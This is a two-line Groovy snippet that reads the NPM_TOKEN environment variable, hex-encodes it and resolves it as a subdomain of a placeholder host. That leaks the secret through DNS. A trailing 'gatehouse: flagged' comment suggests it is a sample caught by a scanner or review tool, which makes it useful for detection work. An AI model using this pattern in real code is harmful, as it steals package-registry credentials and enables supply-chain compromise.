def who = System.getenv('NPM_TOKEN').bytes.encodeHex().toString().take(60)
InetAddress.getByName(who + '.d.example.invalid') // gatehouse: flagged
